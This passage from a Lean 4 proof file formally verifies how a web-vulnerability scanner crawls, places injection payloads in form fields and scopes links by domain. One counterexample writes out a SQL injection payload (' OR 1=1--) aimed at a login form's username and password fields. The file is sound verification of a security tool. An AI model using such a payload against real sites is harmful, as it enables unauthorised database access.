  intro l hne
  have hinv : StatsTimeInv (l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init) := by
    cases l with
    | nil => exact absurd rfl hne
    | cons hd tl =>
      rw [List.foldl_cons]
      exact statsTimeInv_fold tl _ (statsTimeInv_first hd.1 hd.2)
  obtain ⟨hpos, havg, m, hmin, hlo, hhi⟩ := hinv
  set st := l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init with hst
  have hq : (0 : ℚ) < (st.total_requests : ℚ) := by exact_mod_cast hpos
  refine ⟨havg, ?_, ?_⟩
  · rw [hmin, havg]
    have : m ≤ st.total_response_time / (st.total_requests : ℚ) :=
      (le_div_iff₀ hq).mpr hlo
    exact_mod_cast WithTop.coe_le_coe.mpr this
  · rw [havg]
    exact (div_le_iff₀ hq).mpr hhi

/-! ## C3 — injection-testing payload placement and early stopping -/

theorem find?_update_self (k v : String) (d : List (String × String))
    (hany : (d.any fun kv => kv.1 = k) = true) :
    ((d.map (fun kv => if kv.1 = k then (kv.1, v) else kv)).find?
      (fun kv => kv.1 = k)) = some (k, v) := by
  induction d with
  | nil => cases hany
  | cons hd tl ih =>
    by_cases hhd : hd.1 = k
    · rw [List.map_cons, if_pos hhd, List.find?_cons_of_pos _ (by simpa using hhd)]
      rw [hhd]
    · rw [List.map_cons, if_neg hhd,
          List.find?_cons_of_neg _ (by simpa using hhd)]
      apply ih
      simpa [hhd] using hany

theorem dictGet_dictSet_same (k v : String) (d : List (String × String)) :
    dictGet k (dictSet k v d) = some v := by
  unfold dictSet dictGet
  by_cases hany : (d.any fun kv => kv.1 = k) = true
  · rw [if_pos hany, find?_update_self k v d hany]
    rfl
  · rw [if_neg hany, List.find?_append]
    have hnone : d.find? (fun kv => kv.1 = k) = none := by
      rw [List.find?_eq_none]
      intro kv hkv hpred
      exact hany (List.any_eq_true.mpr ⟨kv, hkv, hpred⟩)
    rw [hnone]
    simp

theorem dictGet_dictSet_other (k q v : String) (d : List (String × String))
    (h : q ≠ k) : dictGet q (dictSet k v d) = dictGet q d := by
  unfold dictSet dictGet
  by_cases hany : (d.any fun kv => kv.1 = k) = true
  · rw [if_pos hany]
    clear hany
    induction d with
    | nil => rfl
    | cons hd tl ih =>
      rw [List.map_cons]
      by_cases hq : hd.1 = q
      · have hk : ¬ hd.1 = k := fun hh => h (hq ▸ hh)
        rw [if_neg hk, List.find?_cons_of_pos _ (by simpa using hq),
            List.find?_cons_of_pos _ (by simpa using hq)]
      · by_cases hk : hd.1 = k
        · rw [if_pos hk,
              List.find?_cons_of_neg _ (by simpa using hq),
              List.find?_cons_of_neg _ (by simpa using hq)]
          exact ih
        · rw [if_neg hk,
              List.find?_cons_of_neg _ (by simpa using hq),
              List.find?_cons_of_neg _ (by simpa using hq)]
          exact ih
  · rw [if_neg hany, List.find?_append]
    cases hfd : d.find? (fun kv => kv.1 = q) with
    | some kv => simp
    | none =>
      have hsingle : (([((k, v))] : List (String × String)).find?
          (fun kv => kv.1 = q)) = none := by
        rw [List.find?_cons_of_neg _ (by simpa using fun hh : k = q => h hh.symm)]
        rfl
      simp [hsingle]

/-- Every dictionary value written by `build_injection_data` is the
payload. -/
theorem build_injection_data_values (inputs : List FormInput) (payload : String) :
    ∀ n v, dictGet n (build_injection_data inputs payload) = some v → v = payload := by
  unfold build_injection_data
  suffices h : ∀ d, (∀ n v, dictGet n d = some v → v = payload) →
      ∀ n v, dictGet n (inputs.foldl (fun d inp =>
        if inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image") then d
        else dictSet inp.name payload d) d) = some v → v = payload by
    refine h [] ?_
    intro n v hv
    cases hv
  induction inputs with
  | nil => intro d hd; exact hd
  | cons hd tl ih =>
    intro d hstart n v
    simp only [List.foldl_cons]
    apply ih
    intro n' v' hv'
    by_cases hskip : hd.itype = ("submit") ∨ hd.itype = ("button") ∨ hd.itype = ("image")
    · rw [if_pos hskip] at hv'
      exact hstart n' v' hv'
    · rw [if_neg hskip] at hv'
      by_cases heq : n' = hd.name
      · rw [heq, dictGet_dictSet_same] at hv'
        exact (Option.some_injective _ hv').symm
      · rw [dictGet_dictSet_other _ _ _ _ heq] at hv'
        exact hstart n' v' hv'

/-- `dictSet` keeps every present key present. -/
theorem dictGet_dictSet_isSome (k v q : String) (d : List (String × String))
    (h : (dictGet q d).isSome = true) : (dictGet q (dictSet k v d)).isSome = true := by
  by_cases heq : q = k
  · rw [heq, dictGet_dictSet_same]; rfl
  · rw [dictGet_dictSet_other _ _ _ _ heq]; exact h

/-- Every non-submit/button/image input of the form receives the payload in
the injection dictionary. -/
theorem build_injection_data_covers (inputs : List FormInput) (payload : String) :
    ∀ inp ∈ inputs,
      ¬ (inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image")) →
      dictGet inp.name (build_injection_data inputs payload) = some payload := by
  have hsome : ∀ inp ∈ inputs,
      ¬ (inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image")) →
      (dictGet inp.name (build_injection_data inputs payload)).isSome = true := by
    unfold build_injection_data
    suffices h : ∀ d, ∀ inp ∈ inputs,
        ¬ (inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image")) →
        (dictGet inp.name (inputs.foldl (fun d inp =>
          if inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image") then d
          else dictSet inp.name payload d) d)).isSome = true from h []
    induction inputs with
    | nil => intro d inp hmem; cases hmem
    | cons hd tl ih =>
      intro d inp hmem helig
      simp only [List.foldl_cons]
      rcases List.mem_cons.mp hmem with heq | htl
      · subst heq
        rw [if_neg helig]
        have hbase : (dictGet inp.name (dictSet inp.name payload d)).isSome = true := by
          rw [dictGet_dictSet_same]; rfl
        clear hmem helig ih
        generalize dictSet inp.name payload d = d0 at hbase ⊢
        induction tl generalizing d0 with
        | nil => exact hbase
        | cons hd2 tl2 ih2 =>
          simp only [List.foldl_cons]
          by_cases hskip : hd2.itype = ("submit") ∨ hd2.itype = ("button") ∨ hd2.itype = ("image")
          · rw [if_pos hskip]
            exact ih2 d0 hbase
          · rw [if_neg hskip]
            exact ih2 _ (dictGet_dictSet_isSome hd2.name payload inp.name d0 hbase)
      · exact ih _ inp htl helig
  intro inp hmem helig
  obtain ⟨v, hv⟩ := Option.isSome_iff_exists.mp (hsome inp hmem helig)
  rw [hv, build_injection_data_values inputs payload inp.name v hv]

/-- The SQL loop sends one request per payload, whatever the detector
says: the request log is the full payload list mapped through
`build_injection_data`. -/
theorem scanFormSql_log (respond : List (String × String) → String)
    (form : Form) (url : String) (ps : List String) :
    (scanFormSql respond ps form url).1 =
      ps.map (fun p => build_injection_data form.inputs p) := by
  unfold scanFormSql
  suffices h : ∀ acc : List (List (String × String)) × List (String × String),
      (ps.foldl (fun acc payload =>
        let data := build_injection_data form.inputs payload
        let text := respond data
        if is_vulnerable_to_sql_injection text payload then
          (acc.1 ++ [data], acc.2 ++ [((("sql_injection") : String), url)])
        else (acc.1 ++ [data], acc.2)) acc).1 =
      acc.1 ++ ps.map (fun p => build_injection_data form.inputs p) by
    simpa using h ([], [])
  induction ps with
  | nil => intro acc; simp
  | cons hd tl ih =>
    intro acc
    simp only [List.foldl_cons, List.map_cons]
    by_cases hv : is_vulnerable_to_sql_injection (respond (build_injection_data form.inputs hd)) hd
    · rw [if_pos hv, ih]
      simp
    · rw [if_neg hv, ih]
      simp

/-- The XSS loop is a `takeWhile`: it sends the prefix of payloads the
detector rejects plus at most one more (the first confirmed one), and
yields one `xss` finding exactly when some payload was confirmed. -/
theorem scanFormXss_log (respond : List (String × String) → String)
    (isV : String → String → Bool) (form : Form) (url : String) :
    ∀ ps : List String,
      (scanFormXss respond isV form url ps).1 =
        ((ps.takeWhile (fun p => ! isV (respond (build_injection_data form.inputs p)) p)) ++
          (ps.drop (ps.takeWhile
            (fun p => ! isV (respond (build_injection_data form.inputs p)) p)).length).take 1).map
          (fun p => build_injection_data form.inputs p) ∧
      (scanFormXss respond isV form url ps).2 =
        (if (ps.takeWhile
            (fun p => ! isV (respond (build_injection_data form.inputs p)) p)).length < ps.length
         then [((("xss") : String), url)] else []) := by
  intro ps
  induction ps with
  | nil => exact ⟨rfl, rfl⟩
  | cons hd tl ih =>
    by_cases hv : isV (respond (build_injection_data form.inputs hd)) hd = true
    · have hstep : scanFormXss respond isV form url (hd :: tl) =
          ([build_injection_data form.inputs hd], [((("xss") : String), url)]) := by
        simp only [scanFormXss, hv, if_true]
      rw [hstep, List.takeWhile_cons]
      constructor
      · simp [hv]
      · simp [hv]
    · rw [Bool.not_eq_true] at hv
      have hstep : scanFormXss respond isV form url (hd :: tl) =
          (build_injection_data form.inputs hd :: (scanFormXss respond isV form url tl).1,
           (scanFormXss respond isV form url tl).2) := by
        simp only [scanFormXss, hv, Bool.false_eq_true, if_false]
      rw [hstep]
      rw [List.takeWhile_cons]
      simp only [hv, Bool.not_false, if_true]
      constructor
      · simp only [List.length_cons, List.drop_succ_cons, List.map_cons, List.map_append]
        rw [ih.1]
        simp
      · rw [ih.2]
        simp only [List.length_cons]
        congr 1
        simp [Nat.succ_lt_succ_iff]

/-- Claim C3, counterexample: in `Scanner._scan_form`, the first SQL
payload is substituted into BOTH text fields at once (the `password`
field does not keep its original value `secret`), and although that first
payload is already confirmed vulnerable, all three SQL payloads are still
sent (no early stop in the SQL loop). -/
theorem scan_form_counterexample :
    ((scan_form c3Respond (fun _ _ => false) default_sql_payloads XSS_PAYLOADS
        c3Form (("http://a.com/p"))).1.1.headD [] =
      [((("username") : String), ("\x27 OR 1=1--")),
       ((("password") : String), ("\x27 OR 1=1--"))]) ∧
    (dictGet (("password"))
        ((scan_form c3Respond (fun _ _ => false) default_sql_payloads XSS_PAYLOADS
          c3Form (("http://a.com/p"))).1.1.headD []) ≠ some (("secret"))) ∧
    ((scan_form c3Respond (fun _ _ => false) default_sql_payloads XSS_PAYLOADS
        c3Form (("http://a.com/p"))).1.2.length = 3) ∧
    ((scan_form c3Respond (fun _ _ => false) default_sql_payloads XSS_PAYLOADS
        c3Form (("http://a.com/p"))).1.1.length = 3) := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-- Claim C3 (amended): in `Scanner._scan_form` every payload request maps
every non-submit/button/image field to the payload simultaneously (other
fields do not keep their original values); the SQL loop sends one request
per payload with no early stop, while the XSS loop stops at the first
confirmed payload for the whole form; per-field substitution does exist in
`SQLiScanner.test_post_parameter`, which substitutes the payload into
exactly the tested parameter and leaves the other fields at their original
values, but it too tries every payload. -/
theorem scan_form_payload_semantics
    (respond : List (String × String) → String)
    (isVulnXss : String → String → Bool)
    (sqlp xssp : List String) (form : Form) (url : String)
    (hne : form.inputs ≠ []) :
    ((scan_form respond isVulnXss sqlp xssp form url).1.1 =
      sqlp.map (fun p => build_injection_data form.inputs p)) ∧
    (∀ p : String, ∀ inp ∈ form.inputs,
      ¬ (inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image")) →
      dictGet inp.name (build_injection_data form.inputs p) = some p) ∧
    ((scan_form respond isVulnXss sqlp xssp form url).2.1 =
      ((xssp.takeWhile
          (fun p => ! isVulnXss (respond (build_injection_data form.inputs p)) p)) ++
        (xssp.drop (xssp.takeWhile
          (fun p => ! isVulnXss (respond (build_injection_data form.inputs p)) p)).length).take 1).map
        (fun p => build_injection_data form.inputs p)) ∧
    ((scan_form respond isVulnXss sqlp xssp form url).2.2 =
      (if (xssp.takeWhile
          (fun p => ! isVulnXss (respond (build_injection_data form.inputs p)) p)).length < xssp.length
       then [((("xss") : String), url)] else [])) ∧
    (∀ (respondP : List (String × String) → SqliResponse) (pls : List SqliPayload)
       (fd : List (String × String)) (param : String),
       (respondP fd).text ≠ ("") →
       (test_post_parameter respondP pls fd param).1 =
         pls.map (fun p => dictSet param p.payload fd)) ∧
    (∀ (fd : List (String × String)) (param q v : String), q ≠ param →
       dictGet q (dictSet param v fd) = dictGet q fd) := by
  have hform : scan_form respond isVulnXss sqlp xssp form url =
      (scanFormSql respond sqlp form url,
       scanFormXss respond isVulnXss form url xssp) := by
    unfold scan_form
    rw [if_neg hne]
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_⟩
  · rw [hform]
    exact scanFormSql_log respond form url sqlp
  · intro p inp hmem helig
    exact build_injection_data_covers form.inputs p inp hmem helig
  · rw [hform]
    exact (scanFormXss_log respond isVulnXss form url xssp).1
  · rw [hform]
    exact (scanFormXss_log respond isVulnXss form url xssp).2
  · intro respondP pls fd param hbase
    unfold test_post_parameter
    rw [if_neg hbase]
    suffices h : ∀ acc : List (List (String × String)) × Bool × List (String × String),
        (pls.foldl (fun acc p =>
          let test_data := dictSet param p.payload fd
          let resp := respondP test_data
          match sqliDetect (respondP fd).text resp p with
          | some m => (acc.1 ++ [test_data], true, acc.2.2 ++ [(p.name, m)])
          | none => (acc.1 ++ [test_data], acc.2.1, acc.2.2)) acc).1 =
        acc.1 ++ pls.map (fun p => dictSet param p.payload fd) by
      simpa using h ([], false, [])
    induction pls with
    | nil => intro acc; simp
    | cons hd tl ih =>
      intro acc
      simp only [List.foldl_cons, List.map_cons]
      cases hdet : sqliDetect (respondP fd).text (respondP (dictSet param hd.payload fd)) hd with
      | some m => rw [ih]; simp
      | none => rw [ih]; simp
  · intro fd param q v hq
    exact dictGet_dictSet_other param q v fd hq

/-- Witness for the amended C3 theorem on the concrete login form: the SQL
log equals the mapped payload list, both text fields receive the payload,
and the XSS log stops after the first confirmed payload. -/
theorem scan_form_payload_semantics_witness :
    (c3Form.inputs ≠ []) ∧
    ((scan_form c3Respond (fun _ _ => true) default_sql_payloads XSS_PAYLOADS
        c3Form (("u"))).1.1 =
      default_sql_payloads.map (fun p => build_injection_data c3Form.inputs p)) ∧
    ((scan_form c3Respond (fun _ _ => true) default_sql_payloads XSS_PAYLOADS
        c3Form (("u"))).2.2 =
      (if ((XSS_PAYLOADS.takeWhile (fun p =>
          ! (fun _ _ => true) (c3Respond (build_injection_data c3Form.inputs p)) p)).length <
            XSS_PAYLOADS.length)
       then [((("xss") : String), ("u"))] else [])) :=
  ⟨by decide,
   (scan_form_payload_semantics c3Respond (fun _ _ => true) default_sql_payloads
     XSS_PAYLOADS c3Form (("u")) (by decide)).1,
   (scan_form_payload_semantics c3Respond (fun _ _ => true) default_sql_payloads
     XSS_PAYLOADS c3Form (("u")) (by decide)).2.2.2.1⟩

/-! ## Crawl-model infrastructure: step-closure preservation -/

theorem foldl_preserve {α β : Type} (P : β → Prop) (f : β → α → β) (l : List α)
    (hstep : ∀ b a, a ∈ l → P b → P (f b a)) :
    ∀ b, P b → P (l.foldl f b) := by
  induction l with
  | nil => intro b hb; exact hb
  | cons hd tl ih =>
    intro b hb
    rw [List.foldl_cons]
    exact ih (fun b a ha => hstep b a (List.mem_cons_of_mem hd ha))
      (f b hd) (hstep b hd (List.mem_cons_self hd tl) hb)

section StepPreserve

variable (cfg : ScanConfig) (w : World) (P : ScanState → Prop)

theorem xssUrlParamsStep_preserve
    (hvuln : ∀ (st : ScanState) (t u : String), P st → P (st.addVulnerability t u))
    (url : String) (st : ScanState) (h : P st) :
    P (xssUrlParamsStep cfg w url st) := by
  unfold xssUrlParamsStep
  split
  · exact foldl_preserve P _ _ (fun b a _ hb => hvuln b _ url hb) st h
  · exact h

theorem formsStep_preserve
    (hvuln : ∀ (st : ScanState) (t u : String), P st → P (st.addVulnerability t u))
    (hform : ∀ (st : ScanState) (u : String) (f : Form), P st →
      P { st with scanned_forms := st.scanned_forms ++ [(u, f)] })
    (url : String) (page : Page) (st : ScanState) (h : P st) :
    P (formsStep cfg w url page st) := by
  unfold formsStep
  split
  · refine foldl_preserve P _ _ (fun b f _ hb => ?_) st h
    exact foldl_preserve P _ _ (fun b2 t _ hb2 => hvuln b2 t url hb2) _
      (hform b url f hb)
  · exact h

theorem linksStep_preserve
    (hlink : ∀ (st : ScanState) (u : String) (hs : List (List Char)) (link : List Char),
      link ∈ extract_links w.urljoin hs u.toList → P st →
      P { st with scanned_links := st.scanned_links ++ [(u, (⟨link⟩ : String))] })
    (recurse : String → ScanState → ScanState)
    (hrec : ∀ (u : String) (st : ScanState), P st → P (recurse u st))
    (url : String) (page : Page) (st : ScanState) (h : P st) :
    P (linksStep cfg w recurse url page st) := by
  unfold linksStep
  split
  · refine foldl_preserve P _ _ (fun b linkChars hlc hb => ?_) st h
    have hb2 := hlink b url (page.hrefs.map String.toList) linkChars hlc hb
    dsimp only
    split
    · exact hrec _ _ hb2
    · exact hb2
  · exact h

theorem headersStep_preserve
    (hvuln : ∀ (st : ScanState) (t u : String), P st → P (st.addVulnerability t u))
    (url : String) (page : Page) (st : ScanState) (h : P st) :
    P (headersStep cfg url page st) := by
  unfold headersStep
  split
  · exact foldl_preserve P _ _ (fun b f _ hb => hvuln b _ url hb) st h
  · exact h

theorem owaspStep_preserve
    (hvuln : ∀ (st : ScanState) (t u : String), P st → P (st.addVulnerability t u))
    (url : String) (page : Page) (st : ScanState) (h : P st) :
    P (owaspStep cfg w url page st) := by
  unfold owaspStep
  split
  · exact foldl_preserve P _ _ (fun b t _ hb => hvuln b t url hb) st h
  · exact h

/-- A property closed under every primitive state update of `_scan_url` is
preserved by the whole crawl, whatever the schedule of recursion. -/
theorem scanUrlFuel_preserve
    (hvisit : ∀ (st : ScanState) (url : String), url ∉ st.visited_urls →
      st.visited_urls.length < cfg.max_pages → P st →
      P { st with visited_urls := st.visited_urls ++ [url],
                  stats := st.stats.add_url url })
    (hsleep : ∀ (st : ScanState) (n : Nat), P st →
      P { st with retry_sleeps := st.retry_sleeps + n })
    (hresp : ∀ (st : ScanState) (c : Nat) (t : ℚ), P st →
      P { st with stats := st.stats.add_response c t })
    (herr : ∀ (st : ScanState) (e : String), P st →
      P { st with stats := st.stats.add_error e })
    (hvuln : ∀ (st : ScanState) (t u : String), P st → P (st.addVulnerability t u))
    (hform : ∀ (st : ScanState) (u : String) (f : Form), P st →
      P { st with scanned_forms := st.scanned_forms ++ [(u, f)] })
    (hlink : ∀ (st : ScanState) (u : String) (hs : List (List Char)) (link : List Char),
      link ∈ extract_links w.urljoin hs u.toList → P st →
      P { st with scanned_links := st.scanned_links ++ [(u, (⟨link⟩ : String))] }) :
    ∀ (fuel depth : Nat) (url : String) (st : ScanState),
      P st → P (scanUrlFuel cfg w fuel depth url st) := by
  intro fuel
  induction fuel with
  | zero => intro depth url st h; exact h
  | succ fuel ih =>
    intro depth url st h
    rw [scanUrlFuel]
    by_cases hdep : cfg.max_depth < depth
    · rw [if_pos hdep]; exact h
    rw [if_neg hdep]
    by_cases hpages : cfg.max_pages ≤ st.visited_urls.length
    · rw [if_pos hpages]; exact h
    rw [if_neg hpages]
    dsimp only
    by_cases hmem : normalizeUrlStr url ∈ st.visited_urls
    · rw [if_pos hmem]; exact h
    rw [if_neg hmem]
    have h1 := hvisit st (normalizeUrlStr url) hmem (Nat.lt_of_not_le hpages) h
    cases hreq : make_request cfg w (normalizeUrlStr url) with
    | mk res slp =>
      cases res with
      | none => exact hsleep _ slp h1
      | some page =>
        dsimp only
        have h2 := hsleep _ slp h1
        have h3 := hresp _ page.status_code page.elapsed h2
        by_cases herrc : is_error_response page.status_code = true
        · rw [if_pos herrc]
          exact herr _ (get_error_type page.status_code) h3
        · rw [if_neg herrc]
          exact owaspStep_preserve cfg w P hvuln _ page _
            (headersStep_preserve cfg P hvuln _ page _
              (linksStep_preserve cfg w P hlink _
                (fun u s hs => ih (depth + 1) u s hs) _ page _
                (formsStep_preserve cfg w P hvuln hform _ page _
                  (xssUrlParamsStep_preserve cfg w P hvuln _ _ h3))))

end StepPreserve

/-- A crawl call whose depth already exceeds the configured maximum is the
identity on the scan state. -/
theorem scanUrlFuel_depth_exceeded (cfg : ScanConfig) (w : World)
    (fuel depth : Nat) (url : String) (st : ScanState)
    (h : cfg.max_depth < depth) : scanUrlFuel cfg w fuel depth url st = st := by
  cases fuel with
  | zero => rfl
  | succ fuel => rw [scanUrlFuel, if_pos h]

/-! ## C4 — domain scoping of discovered links -/

theorem mem_pyDedup (l : List (List Char)) (a : List Char) :
    a ∈ pyDedup l ↔ a ∈ l := by
  induction l with
  | nil => rfl
  | cons hd tl ih =>
    unfold pyDedup
    by_cases hmem : hd ∈ tl
    · rw [if_pos hmem, ih]
      constructor
      · exact fun h => List.mem_cons_of_mem hd h
      · intro h
        rcases List.mem_cons.mp h with heq | htl
        · exact heq ▸ hmem
        · exact htl
    · rw [if_neg hmem]
      constructor
      · intro h
        rcases List.mem_cons.mp h with heq | htl
        · exact heq ▸ List.mem_cons_self hd tl
        · exact List.mem_cons_of_mem hd (ih.mp htl)
      · intro h
        rcases List.mem_cons.mp h with heq | htl
        · exact heq ▸ List.mem_cons_self hd (pyDedup tl)
        · exact List.mem_cons_of_mem hd (ih.mpr htl)

/-- Every link kept by `extract_links` is on the same domain (in the sense
of `is_same_domain`) as the base URL. -/
theorem extract_links_same_domain
    (urljoin : List Char → List Char → List Char)
    (hrefs : List (List Char)) (base l : List Char)
    (hl : l ∈ extract_links urljoin hrefs base) :
    is_same_domain l base = true := by
  unfold extract_links at hl
  rw [mem_pyDedup, List.mem_filterMap] at hl
  obtain ⟨href, -, hp⟩ := hl
  simp only [processHref] at hp
  split at hp <;> split at hp <;> cases hp <;>
    (rename_i hguard
     exact ((Bool.and_eq_true _ _).mp hguard).2)

/-- Claim C4, counterexample: an external-domain link is NOT recorded in
`scanned_links` — `extract_links` silently drops it — and the in-scope
test is a naive `scheme://netloc` string comparison, not a
public-suffix-aware registrable-domain comparison: `http://www.a.com` and
`https://a.com` are both judged out of scope relative to `http://a.com`
although all three share the registrable domain `a.com`. -/
theorem external_link_not_recorded :
    (extract_links (fun _ r => r) [("http://evil.com/x").toList]
      (("http://a.com/p").toList) = []) ∧
    ((crawlFromSeed cfgDefault evilWorld (("http://a.com/p"))).scanned_links = []) ∧
    ((crawlFromSeed cfgDefault evilWorld (("http://a.com/p"))).visited_urls =
      [("http://a.com/p")]) ∧
    (is_same_domain (("http://www.a.com/").toList) (("http://a.com/").toList) = false) ∧
    (is_same_domain (("https://a.com/").toList) (("http://a.com/").toList) = false) := by
  refine ⟨by decide, by decide, by decide, by decide, by decide⟩

/-- Claim C4 (amended): a link to an external domain is never enqueued and
never visited, but it is not recorded in `scanned_links` either —
`extract_links` drops any link failing the in-scope test before the
crawler sees it, so every recorded link target satisfies the in-scope test
against its source page; and that test is `is_same_domain`, a plain
`scheme://netloc` string comparison. -/
theorem scanned_links_all_same_domain :
    (∀ (urljoin : List Char → List Char → List Char)
       (hrefs : List (List Char)) (base l : List Char),
       l ∈ extract_links urljoin hrefs base → is_same_domain l base = true) ∧
    ∀ (cfg : ScanConfig) (w : World) (seed : String),
      ∀ pr ∈ (crawlFromSeed cfg w seed).scanned_links,
        is_same_domain pr.2.toList pr.1.toList = true := by
  refine ⟨extract_links_same_domain, ?_⟩
  intro cfg w seed
  have h := scanUrlFuel_preserve cfg w
    (fun st => ∀ pr ∈ st.scanned_links, is_same_domain pr.2.toList pr.1.toList = true)
    (fun st url _ _ hP => hP)
    (fun st n hP => hP)
    (fun st c t hP => hP)
    (fun st e hP => hP)
    (fun st t u hP => hP)
    (fun st u f hP => hP)
    (fun st u hs link hlm hP => by
      intro pr hpr
      rcases List.mem_append.mp hpr with hold | hnew
      · exact hP pr hold
      · rw [List.mem_singleton] at hnew
        subst hnew
        exact extract_links_same_domain w.urljoin hs u.toList link hlm)
    (cfg.max_depth + 2) 0 seed ScanState.init (by intro pr hpr; cases hpr)
  exact h

/-- Witness for C4: a same-domain link kept by `extract_links` indeed
satisfies `is_same_domain` against its base. -/
theorem scanned_links_all_same_domain_witness :
    is_same_domain (normalize_url (("http://a.com/y").toList))
      (("http://a.com/p").toList) = true :=
  scanned_links_all_same_domain.1 (fun _ r => r)
    [("http://a.com/y").toList] (("http://a.com/p").toList)
    (normalize_url (("http://a.com/y").toList)) (by decide)

/-! ## C1 — at-most-once visiting -/

/-- Claim C1, counterexample: the threaded `WebCrawler` keys its visited
set on raw URLs, so even under a purely sequential schedule it processes
two URLs that normalize identically (one with, one without a fragment)
as two separate visits — the normalized URL is handled twice. -/
theorem webcrawler_visits_normalized_url_twice :
    ((webCrawlerCrawl wcFixtureWorld (("http://a.com/")) 10).visited =
      [("http://a.com/"), ("http://a.com/page"), ("http://a.com/page#top")]) ∧
    (normalizeUrlStr (("http://a.com/page#top")) =
      normalizeUrlStr (("http://a.com/page"))) ∧
    ((("http://a.com/page#top") : String) ≠ ("http://a.com/page")) := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C1 (amended): in the `Scanner` engine (which is sequential — its
`ThreadPoolExecutor` import is unused), each normalized URL is visited at
most once: the visited list never acquires a duplicate, and the
`scanned_urls` stats list is exactly the visited list with its length as
`total_urls_scanned`.  (The separate threaded `WebCrawler` does not have
this property: its visited set is keyed on raw URLs and its
check-then-insert is not atomic; see the counterexample.) -/
theorem scanner_visits_at_most_once (cfg : ScanConfig) (w : World) (seed : String) :
    (crawlFromSeed cfg w seed).visited_urls.Nodup ∧
    (crawlFromSeed cfg w seed).stats.scanned_urls =
      (crawlFromSeed cfg w seed).visited_urls ∧
    (crawlFromSeed cfg w seed).stats.total_urls_scanned =
      (crawlFromSeed cfg w seed).visited_urls.length := by
  have h := scanUrlFuel_preserve cfg w
    (fun st => st.visited_urls.Nodup ∧
      st.stats.scanned_urls = st.visited_urls ∧
      st.stats.total_urls_scanned = st.visited_urls.length)
    (fun st url hmem _ hP => by
      obtain ⟨hnd, hsync, hlen⟩ := hP
      refine ⟨?_, ?_, ?_⟩
      · simpa [List.nodup_append] using ⟨hnd, hmem⟩
      · simpa [ScanStats.add_url] using hsync
      · simp [ScanStats.add_url, hlen]
    )
    (fun st n hP => hP)
    (fun st c t hP => hP)
    (fun st e hP => hP)
    (fun st t u hP => hP)
    (fun st u f hP => hP)
    (fun st u hs link _ hP => hP)
    (cfg.max_depth + 2) 0 seed ScanState.init ⟨List.nodup_nil, rfl, rfl⟩
  exact h

/-! ## C2 — depth and page budgets -/

theorem visited_bounded (cfg : ScanConfig) (w : World) (seed : String) :
    (crawlFromSeed cfg w seed).stats.total_urls_scanned =
      (crawlFromSeed cfg w seed).visited_urls.length ∧
    (crawlFromSeed cfg w seed).visited_urls.length ≤ cfg.max_pages := by
  have h := scanUrlFuel_preserve cfg w
    (fun st => st.stats.total_urls_scanned = st.visited_urls.length ∧
      st.visited_urls.length ≤ cfg.max_pages)
    (fun st url _ hlt hP => by
      obtain ⟨hlen, _⟩ := hP
      constructor
      · simp [ScanStats.add_url, hlen]
      · simpa using hlt)
    (fun st n hP => hP)
    (fun st c t hP => hP)
    (fun st e hP => hP)
    (fun st t u hP => hP)
    (fun st u f hP => hP)
    (fun st u hs link _ hP => hP)
    (cfg.max_depth + 2) 0 seed ScanState.init ⟨rfl, by simp [ScanState.init]⟩
  exact h

/-- With `max_depth = 0` and room for at least one page, the crawl from a
fresh scanner visits exactly the normalized seed: every recursive call has
depth 1 and is stopped by the depth guard. -/
theorem scanUrl_depth0_visited (cfg : ScanConfig) (w : World)
    (h0 : cfg.max_depth = 0) (hp : 1 ≤ cfg.max_pages) (fuel : Nat) (seed : String) :
    (scanUrlFuel cfg w (Nat.succ fuel) 0 seed ScanState.init).visited_urls =
      [normalizeUrlStr seed] := by
  rw [scanUrlFuel]
  rw [if_neg (Nat.not_lt_zero _)]
  rw [if_neg (show ¬ cfg.max_pages ≤ ScanState.init.visited_urls.length by
    simp [ScanState.init]; omega)]
  dsimp only
  rw [if_neg (show normalizeUrlStr seed ∉ ScanState.init.visited_urls from
    List.not_mem_nil _)]
  cases hreq : make_request cfg w (normalizeUrlStr seed) with
  | mk res slp =>
    cases res with
    | none => rfl
    | some page =>
      dsimp only
      by_cases herrc : is_error_response page.status_code = true
      · rw [if_pos herrc]
        simp [ScanState.init]
      · rw [if_neg herrc]
        have hrec : ∀ (u : String) (s : ScanState),
            s.visited_urls = [normalizeUrlStr seed] →
            (scanUrlFuel cfg w fuel (0 + 1) u s).visited_urls =
              [normalizeUrlStr seed] := by
          intro u s hs
          rw [scanUrlFuel_depth_exceeded cfg w fuel (0 + 1) u s (by
            rw [h0]; exact Nat.zero_lt_one)]
          exact hs
        refine owaspStep_preserve cfg w
          (fun s => s.visited_urls = [normalizeUrlStr seed])
          (fun s t u hs => by simpa [ScanState.addVulnerability] using hs) _ page _
          (headersStep_preserve cfg
            (fun s => s.visited_urls = [normalizeUrlStr seed])
            (fun s t u hs => by simpa [ScanState.addVulnerability] using hs) _ page _
            (linksStep_preserve cfg w
              (fun s => s.visited_urls = [normalizeUrlStr seed])
              (fun s u hs link _ h2 => by simpa using h2) _ hrec _ page _
              (formsStep_preserve cfg w
                (fun s => s.visited_urls = [normalizeUrlStr seed])
                (fun s t u hs => by simpa [ScanState.addVulnerability] using hs)
                (fun s u f hs => by simpa using hs) _ page _
                (xssUrlParamsStep_preserve cfg w
                  (fun s => s.visited_urls = [normalizeUrlStr seed])
                  (fun s t u hs => by simpa [ScanState.addVulnerability] using hs)
                  _ _ (by simp [ScanState.init])))))

/-- Claim C2 (confirmed): `total_urls_scanned` never exceeds `max_pages`;
and when `max_depth = 0` (with a page budget of at least one, as in every
default configuration), exactly one URL — the normalized seed — is
visited. -/
theorem crawl_respects_budgets (cfg : ScanConfig) (w : World) (seed : String) :
    ((crawlFromSeed cfg w seed).stats.total_urls_scanned ≤ cfg.max_pages) ∧
    (cfg.max_depth = 0 → 1 ≤ cfg.max_pages →
      (crawlFromSeed cfg w seed).visited_urls = [normalizeUrlStr seed]) := by
  constructor
  · have h := visited_bounded cfg w seed
    rw [h.1]
    exact h.2
